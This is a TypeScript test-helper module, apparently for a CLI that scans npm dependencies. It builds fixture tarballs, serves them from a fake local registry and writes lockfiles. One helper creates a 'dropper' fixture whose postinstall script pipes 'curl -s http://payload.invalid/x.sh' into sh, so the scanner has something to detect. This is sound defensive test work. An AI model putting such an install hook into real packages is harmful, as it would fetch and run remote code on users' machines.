import { createHash } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync, writeFileSync, mkdirSync } from 'node:fs';
import { createServer } from 'node:http';
import type { Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import * as tar from 'tar';

export interface FixturePackage {
  name: string;
  version: string;
  /** package.json fields besides name and version. */
  manifest?: Record<string, unknown>;
  files?: Record<string, string>;
}

export interface BuiltPackage extends FixturePackage {
  tarball: Buffer;
  integrity: string;
  shasum: string;
}

/** Packs a fixture package into an npm-style `.tgz` (entries under `package/`). */
export function packFixture(pkg: FixturePackage): BuiltPackage {
  const dir = mkdtempSync(join(tmpdir(), 'sr-cli-pack-'));
  try {
    mkdirSync(join(dir, 'package'));
    const manifest = { name: pkg.name, version: pkg.version, main: 'index.js', ...pkg.manifest };
    writeFileSync(join(dir, 'package', 'package.json'), JSON.stringify(manifest, null, 2));
    for (const [file, content] of Object.entries(pkg.files ?? { 'index.js': 'module.exports = 42;\n' })) {
      writeFileSync(join(dir, 'package', file), content);
    }
    const out = join(dir, 'out.tgz');
    tar.c({ gzip: true, cwd: dir, file: out, sync: true, portable: true }, ['package']);
    const tarball = readFileSync(out);
    return {
      ...pkg,
      tarball,
      integrity: `sha512-${createHash('sha512').update(tarball).digest('base64')}`,
      shasum: createHash('sha1').update(tarball).digest('hex'),
    };
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

/** A minimal upstream npm registry on 127.0.0.1 serving packuments and tarballs. */
export class FakeRegistry {
  readonly #packages = new Map<string, BuiltPackage[]>();
  #server: Server | undefined;
  url = '';

  add(pkg: BuiltPackage): void {
    const list = this.#packages.get(pkg.name) ?? [];
    list.push(pkg);
    this.#packages.set(pkg.name, list);
  }

  tarballUrl(pkg: Pick<FixturePackage, 'name' | 'version'>): string {
    const bare = pkg.name.split('/').pop()!;
    return `${this.url}/${pkg.name}/-/${bare}-${pkg.version}.tgz`;
  }

  async start(): Promise<string> {
    this.#server = createServer((req, res) => {
      const path = decodeURIComponent(new URL(req.url ?? '/', 'http://x').pathname).slice(1);
      const dash = path.indexOf('/-/');
      if (dash !== -1) {
        const name = path.slice(0, dash);
        const file = path.slice(dash + 3);
        const pkg = this.#packages
          .get(name)
          ?.find((p) => file === `${name.split('/').pop()}-${p.version}.tgz`);
        if (pkg) {
          res.writeHead(200, {
            'content-type': 'application/octet-stream',
            'content-length': pkg.tarball.length,
          });
          res.end(pkg.tarball);
          return;
        }
      } else {
        const versions = this.#packages.get(path);
        if (versions) {
          res.writeHead(200, { 'content-type': 'application/json' });
          res.end(JSON.stringify(this.#packument(path, versions)));
          return;
        }
      }
      res.writeHead(404, { 'content-type': 'application/json' });
      res.end('{"error":"not found"}');
    });
    await new Promise<void>((resolve) => this.#server!.listen(0, '127.0.0.1', resolve));
    this.url = `http://127.0.0.1:${(this.#server.address() as AddressInfo).port}`;
    return this.url;
  }

  async stop(): Promise<void> {
    this.#server?.closeAllConnections();
    await new Promise<void>((resolve) => (this.#server ? this.#server.close(() => resolve()) : resolve()));
  }

  #packument(name: string, versions: BuiltPackage[]) {
    const old = '2020-01-01T00:00:00.000Z';
    const time: Record<string, string> = { created: old, modified: old };
    const out: Record<string, unknown> = {};
    for (const pkg of versions) {
      time[pkg.version] = old;
      out[pkg.version] = {
        name,
        version: pkg.version,
        ...pkg.manifest,
        maintainers: [{ name: 'fixture', email: 'fixture@example.invalid' }],
        dist: { tarball: this.tarballUrl(pkg), integrity: pkg.integrity, shasum: pkg.shasum },
      };
    }
    return {
      name,
      'dist-tags': { latest: versions[versions.length - 1]!.version },
      versions: out,
      time,
      maintainers: [{ name: 'fixture', email: 'fixture@example.invalid' }],
    };
  }
}

/** Writes package.json + a v3 package-lock.json for a project depending on these packages. */
export function writeProject(
  dir: string,
  input: {
    registry: FakeRegistry;
    direct: BuiltPackage[];
    /** Extra lockfile entries keyed by location (e.g. nested or non-registry ones). */
    extra?: Record<string, Record<string, unknown>>;
    /** Packages installed but not direct (their dependents name them). */
    transitive?: BuiltPackage[];
  },
): void {
  const dependencies: Record<string, string> = {};
  for (const pkg of input.direct) dependencies[pkg.name] = pkg.version;
  for (const [location, entry] of Object.entries(input.extra ?? {})) {
    if (!location.includes('/node_modules/'))
      dependencies[location.replace(/^node_modules\//, '')] = String(entry.resolved ?? entry.version);
  }
  const packages: Record<string, Record<string, unknown>> = {
    '': { name: 'fixture-project', version: '1.0.0', dependencies },
  };
  for (const pkg of [...input.direct, ...(input.transitive ?? [])]) {
    const scripts = (pkg.manifest?.scripts ?? {}) as Record<string, string>;
    packages[`node_modules/${pkg.name}`] = {
      version: pkg.version,
      resolved: input.registry.tarballUrl(pkg),
      integrity: pkg.integrity,
      ...(pkg.manifest?.dependencies ? { dependencies: pkg.manifest.dependencies } : {}),
      ...(scripts.preinstall || scripts.install || scripts.postinstall ? { hasInstallScript: true } : {}),
    };
  }
  Object.assign(packages, input.extra ?? {});
  writeFileSync(
    join(dir, 'package.json'),
    JSON.stringify({ name: 'fixture-project', version: '1.0.0', dependencies }, null, 2),
  );
  writeFileSync(
    join(dir, 'package-lock.json'),
    JSON.stringify(
      { name: 'fixture-project', version: '1.0.0', lockfileVersion: 3, requires: true, packages },
      null,
      2,
    ),
  );
}

/** The trio most CLI scan tests use: a clean package, an install-time dropper and its dependent. */
export function dropperFixtures(prefix: string): {
  benign: BuiltPackage;
  dropper: BuiltPackage;
  parent: BuiltPackage;
} {
  return {
    benign: packFixture({ name: `${prefix}-benign`, version: '1.0.0' }),
    dropper: packFixture({
      name: `${prefix}-dropper`,
      version: '1.0.0',
      manifest: { scripts: { postinstall: 'curl -s http://payload.invalid/x.sh | sh' } },
    }),
    parent: packFixture({
      name: `${prefix}-parent`,
      version: '2.0.0',
      manifest: { dependencies: { [`${prefix}-dropper`]: '1.0.0' } },
    }),
  };
}

/** The environment of the built CLI in local mode under `work`, against `upstream`. */
export function localModeEnv(work: string, upstream: string): Record<string, string> {
  return {
    HOME: join(work, 'home'),
    SECURE_REGISTRY_CONFIG_DIR: join(work, 'config'),
    SECURE_REGISTRY_DATA_DIR: join(work, 'data'),
    SECURE_REGISTRY_UPSTREAM: upstream,
  };
}

/** A new directory `name` under `work`. */
export function newProjectDir(work: string, name: string): string {
  const dir = join(work, name);
  mkdirSync(dir);
  return dir;
}
